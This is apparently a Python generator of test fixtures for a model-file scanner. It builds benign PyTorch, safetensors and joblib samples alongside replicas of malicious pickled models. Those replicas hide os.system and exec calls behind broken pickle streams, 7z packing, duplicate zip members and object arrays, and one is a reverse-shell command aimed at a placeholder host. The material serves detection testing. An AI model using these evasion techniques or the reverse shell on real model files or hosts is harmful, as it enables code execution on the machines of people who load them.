#!/usr/bin/env python3
"""Writes every file of samples/: the recipe is the source, the bytes are committed for convenience.

    make_samples.py FOLDER

The bytes are the same on every run (tests/e2e/test_samples.py compares them with the committed
ones). All payloads are harmless: they print a word, or name a host under .invalid, which no
resolver knows. benign/state_dict.pt needs PyTorch and the joblib files need joblib, at the versions
that tests/requirements.txt pins, because they show what `torch.save` and `joblib.dump` write.

The replicas in nullifai/ follow the models found on Hugging Face in February 2025: the payload in
the first opcodes, the stream broken on purpose right behind it.
"""

from __future__ import annotations

import io
import json
import lzma
import os
import pickle
import struct
import sys
import warnings
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path

REVERSE_SHELL = "/bin/sh -i >& /dev/tcp/c2.invalid/4444 0>&1"
ZIP_TIME = (1980, 1, 1, 0, 0, 0)
LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
LEGACY_PROTOCOL = 1001
WEIGHTS = struct.pack("<12f", *(0.25 * i for i in range(12)))


# --- pickle, opcode by opcode ---------------------------------------------------------------------


def unicode(text: str) -> bytes:
    """BINUNICODE"""
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def name(module: str, attribute: str) -> bytes:
    """GLOBAL"""
    return f"c{module}\n{attribute}\n".encode()


def call(module: str, attribute: str, argument: bytes) -> bytes:
    """GLOBAL argument TUPLE1 REDUCE"""
    return name(module, attribute) + argument + b"\x85R"


def state_dict(before: bytes = b"") -> bytes:
    """What torch.save writes for {"weight": a 3 x 4 tensor of floats}, protocol 2.

    `before` runs first; it must leave the stack as it found it."""
    storage = (
        b"("
        + unicode("storage")
        + name("torch", "FloatStorage")
        + unicode("0")
        + unicode("cpu")
        + b"K\x0ctQ"
    )
    tensor = (
        name("torch._utils", "_rebuild_tensor_v2")
        + b"("
        + storage
        + b"K\x00K\x03K\x04\x86K\x04K\x01\x86\x89"
        + name("collections", "OrderedDict")
        + b")RtR"
    )
    return b"\x80\x02" + before + b"}(" + unicode("weight") + tensor + b"u."


def broken_state_dict(payload: bytes) -> bytes:
    """The payload, then an honest beginning that ends in the middle of a string's length."""
    whole = state_dict(payload + b"0")
    cut = whole.index(unicode("cpu"))
    return whole[: cut + 2]


# --- torch's containers ---------------------------------------------------------------------------


def torch_zip(members: list[tuple[str, bytes]]) -> bytes:
    """A zip as torch.save lays it out: stored, every member's data at a multiple of 64."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        warnings.simplefilter("ignore", UserWarning)  # the same name twice is the point
        for member, data in members:
            info = zipfile.ZipInfo(f"pytorch_model/{member}", ZIP_TIME)
            info.create_system = 0
            info.create_version = info.extract_version = 20
            begin = out.tell() + 30 + len(info.filename) + 4
            padding = -begin % 64
            info.extra = b"FB" + struct.pack("<H", padding) + b"Z" * padding
            archive.writestr(info, data)
    return out.getvalue()


def model_zip(*pickles: bytes) -> bytes:
    """A torch zip with one data.pkl; further pickles are appended under the same name."""
    first, *more = pickles
    members = [
        ("data.pkl", first),
        ("byteorder", b"little"),
        ("data/0", WEIGHTS),
        ("version", b"3\n"),
    ]
    return torch_zip(members + [("data.pkl", data) for data in more])


def legacy_beginning() -> bytes:
    """The format before zip starts with three pickles of its own: magic, protocol, system."""
    system = {"protocol_version": LEGACY_PROTOCOL, "little_endian": True}
    heads = (LEGACY_MAGIC, LEGACY_PROTOCOL, system)
    return b"".join(pickle.dumps(value, protocol=2) for value in heads)


# --- other containers -----------------------------------------------------------------------------


def seven_zip(member: str, data: bytes) -> bytes:
    """A 7z archive of one file, LZMA2, as 7zFormat.txt describes it."""
    method = [{"id": lzma.FILTER_LZMA2, "preset": 6, "dict_size": 1 << 16}]
    packed = lzma.compress(data, lzma.FORMAT_RAW, filters=method)
    name = member.encode("utf-16-le") + b"\0\0"
    number = seven_zip_number
    header = (
        b"\x01\x04"  # header, main streams
        + (b"\x06" + number(0) + number(1) + b"\x09" + number(len(packed)) + b"\0")
        + (b"\x07\x0b" + number(1) + b"\0")  # one folder, described here
        + (number(1) + b"\x21\x21" + number(1) + bytes([2 * (16 - 12)]))  # LZMA2, 64 KiB
        + (b"\x0c" + number(len(data)) + b"\x0a\x01" + struct.pack("<I", zlib.crc32(data)))
        + b"\0\x08\0\0"  # nothing to say about parts of the folder
        + (b"\x05" + number(1) + b"\x11" + number(len(name) + 1) + b"\0" + name + b"\0\0")
    )
    start = struct.pack("<QQI", len(packed), len(header), zlib.crc32(header))
    signature = b"7z\xbc\xaf\x27\x1c\0\x04"
    return signature + struct.pack("<I", zlib.crc32(start)) + start + packed + header


def seven_zip_number(value: int) -> bytes:
    if value < 0x80:
        return bytes([value])
    if value < 0x4000:
        return bytes([0x80 | value >> 8, value & 0xFF])
    raise ValueError(value)


def object_array(payload: bytes) -> bytes:
    """A .npy file whose array holds objects, which numpy stores as a pickle behind the header."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (-(10 + len(header) + 1) % 64) + "\n"
    return b"\x93NUMPY\x01\0" + struct.pack("<H", len(header)) + header.encode() + payload


# --- the samples ----------------------------------------------------------------------------------


def benign_torch() -> bytes:
    import torch

    model = OrderedDict(
        [
            ("embed.weight", torch.arange(64, dtype=torch.float32).reshape(16, 4) / 64),
            ("linear.weight", torch.arange(16, dtype=torch.float16).reshape(4, 4)),
            ("linear.bias", torch.zeros(4)),
            ("steps", torch.tensor(1000)),
        ]
    )
    out = io.BytesIO()
    torch.save(model, out)
    return out.getvalue()


def benign_safetensors() -> bytes:
    header: dict[str, object] = {
        "__metadata__": {"format": "pt"},
        "bias": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
        "weight": {"dtype": "F32", "shape": [2, 4], "data_offsets": [16, 48]},
    }
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + WEIGHTS


def benign_config() -> bytes:
    config = {
        "architecture": "encoder",
        "layers": 12,
        "dropout": 0.1,
        "heads": [8, 8, 16],
        "labels": {"negative": 0, "positive": 1},
        "tied": True,
        "license": None,
    }
    return pickle.dumps(config, protocol=4)


def benign_vocabulary() -> bytes:
    words = ["the", "of", "and", "to", "in", "is"]
    return pickle.dumps(OrderedDict((word, i) for i, word in enumerate(words)), protocol=2)


def nullifai_pickle() -> bytes:
    """As short as it can be: the call, then a string whose length is cut off."""
    return b"\x80\x02" + call("posix", "system", unicode(REVERSE_SHELL)) + b"X\x04"


def nullifai_zip() -> bytes:
    return model_zip(broken_state_dict(call("posix", "system", unicode(REVERSE_SHELL))))


def nullifai_legacy() -> bytes:
    code = "import os; os.system('echo the model runs this')"
    return legacy_beginning() + broken_state_dict(call("__builtin__", "exec", unicode(code)))


def two_readings() -> bytes:
    """Three members named data.pkl: Python's zipfile shows the last, torch runs the first."""
    payload = call("posix", "system", unicode("echo torch runs this")) + b"0"
    return model_zip(state_dict(payload), state_dict(), state_dict())


def unknown_class() -> bytes:
    """A class that nobody but its owner knows; its state is plain data."""
    return (
        b"\x80\x02"
        + name("mycompany.features", "Encoder")
        + b")\x81}("
        + unicode("columns")
        + b"]("
        + unicode("age")
        + unicode("city")
        + b"eub."
    )


def nullifai_seven_zip() -> bytes:
    """How the real ones travelled: packed by 7z, which torch.load and the platform did not open."""
    return seven_zip("model/data.pkl", nullifai_pickle())


class Command:
    """Unpickles as the call of a shell."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("echo joblib runs this",)


def dumped_by_joblib(value: object) -> bytes:
    import joblib

    out = io.BytesIO()
    joblib.dump(value, out, compress=("zlib", 3))
    return out.getvalue()


def benign_joblib() -> bytes:
    import numpy

    scaler = {"mean": numpy.linspace(0, 1, 8), "scale": numpy.ones(8), "columns": ["a", "b"]}
    return dumped_by_joblib(scaler)


def hidden_joblib() -> bytes:
    """The payload comes behind an array, whose raw bytes interrupt the pickle."""
    import numpy

    return dumped_by_joblib({"trees": numpy.arange(256.0), "hook": Command()})


def hidden_array() -> bytes:
    return object_array(pickle.dumps([Command()], protocol=4))


SAMPLES: dict[str, Callable[[], bytes]] = {
    "benign/config.pkl": benign_config,
    "benign/model.safetensors": benign_safetensors,
    "benign/state_dict.pt": benign_torch,
    "benign/vocabulary.pkl": benign_vocabulary,
    "benign/scaler.joblib": benign_joblib,
    "hidden/forest.joblib": hidden_joblib,
    "hidden/labels.npy": hidden_array,
    "nullifai/adapter_model.bin": nullifai_seven_zip,
    "nullifai/legacy.pt": nullifai_legacy,
    "nullifai/model.pkl": nullifai_pickle,
    "nullifai/pytorch_model.bin": nullifai_zip,
    "confusing/two_readings.pt": two_readings,
    "unknown/encoder.pkl": unknown_class,
}


def main(arguments: list[str]) -> int:
    if len(arguments) != 1:
        print(__doc__, file=sys.stderr)
        return 2
    for path, recipe in SAMPLES.items():
        target = Path(arguments[0]) / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(recipe())
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
